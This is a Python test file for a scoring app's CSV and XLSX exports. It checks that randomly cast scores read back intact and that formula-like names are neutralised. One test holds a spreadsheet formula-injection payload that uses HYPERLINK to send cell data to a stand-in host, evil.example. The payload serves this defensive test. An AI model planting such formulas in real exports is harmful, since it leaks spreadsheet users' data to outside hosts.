"""Reading an export back gives exactly the scores that were cast (the last of each)."""

import csv
import io
import random

from openpyxl import load_workbook

from tests.conftest import ORGANISATIONS


def cast_random_scores(client, anna, phone, seed: int) -> tuple[dict, dict]:
    """Nine or more phones score at random, some change their minds; returns the session
    and {participant label: {statement: last value}} in joining order."""
    rng = random.Random(seed)
    session = client.post("/api/sessions", headers=anna, json={
        "title": "Rondrit", "organisations": ORGANISATIONS, "phase": "scoring"}).json
    cast: dict[str, dict[str, int]] = {}
    for index in range(rng.randint(9, 14)):
        p = phone(session["code"], ORGANISATIONS[index % 3] if index < 9 else
                  rng.choice(ORGANISATIONS))
        statements = [s["key"] for lens in p.answer["lenses"] for s in lens["statements"]]
        scores = cast[f"P{index + 1}"] = {}
        for statement in rng.sample(statements, rng.randint(1, len(statements))):
            for _ in range(rng.choice([1, 1, 2])):  # sometimes a changed score
                value = rng.randint(1, 5)
                assert p.emit("score", {"statement": statement, "value": value},
                              callback=True) == {"ok": True}
                scores[statement] = value
    return session, cast


def test_the_csv_reads_back_as_the_scores_cast(client, anna, phone):
    for seed in range(3):
        session, cast = cast_random_scores(client, anna, phone, seed)
        text = client.get(f"/api/sessions/{session['id']}/scores.csv",
                          headers=anna).get_data(as_text=True)
        read: dict[str, dict[str, int]] = {}
        for row in csv.DictReader(io.StringIO(text)):
            read.setdefault(row["participant"], {})[row["statement"]] = int(row["value"])
        assert read == cast


def test_the_xlsx_reads_back_as_the_scores_cast(client, anna, phone):
    session, cast = cast_random_scores(client, anna, phone, seed=11)
    lens_sets = client.get("/api/lens-sets").json
    lenses = next(s for s in lens_sets if s["key"] == "kaats-opheij")["lenses"]
    book = load_workbook(io.BytesIO(client.get(
        f"/api/sessions/{session['id']}/scores.xlsx", headers=anna).data))
    read: dict[str, dict[str, int]] = {}
    for lens, sheet in zip(lenses, book.worksheets, strict=True):
        keys = [s["key"] for s in lens["statements"]]
        for row in list(sheet.iter_rows(values_only=True))[1:]:
            for key, value in zip(keys, row[2:], strict=True):
                if value is not None:
                    read.setdefault(row[0], {})[key] = value
    assert read == cast


def test_a_name_that_looks_like_a_formula_stays_text_in_both_exports(client, anna, phone):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    session = client.post("/api/sessions", headers=anna, json={
        "title": "Formules", "organisations": ["@org", *ORGANISATIONS[1:]],
        "ask_names": True, "phase": "scoring"}).json
    for organisation in ["@org"] * 3:  # enough respondents to be shown by name
        assert phone(session["code"], organisation, name=formula).emit(
            "score", {"statement": "ambition-shared", "value": 3}, callback=True) == {"ok": True}
    text = client.get(f"/api/sessions/{session['id']}/scores.csv", headers=anna).text
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["name"] == "'" + formula and row["organisation"] == "'@org"
    book = load_workbook(io.BytesIO(client.get(f"/api/sessions/{session['id']}/scores.xlsx",
                                               headers=anna).data))
    cells = list(book.worksheets[0].iter_rows(min_row=2, max_row=2))[0]
    assert [(c.value, c.data_type) for c in cells[1:3]] == [(formula, "s"), ("@org", "s")]
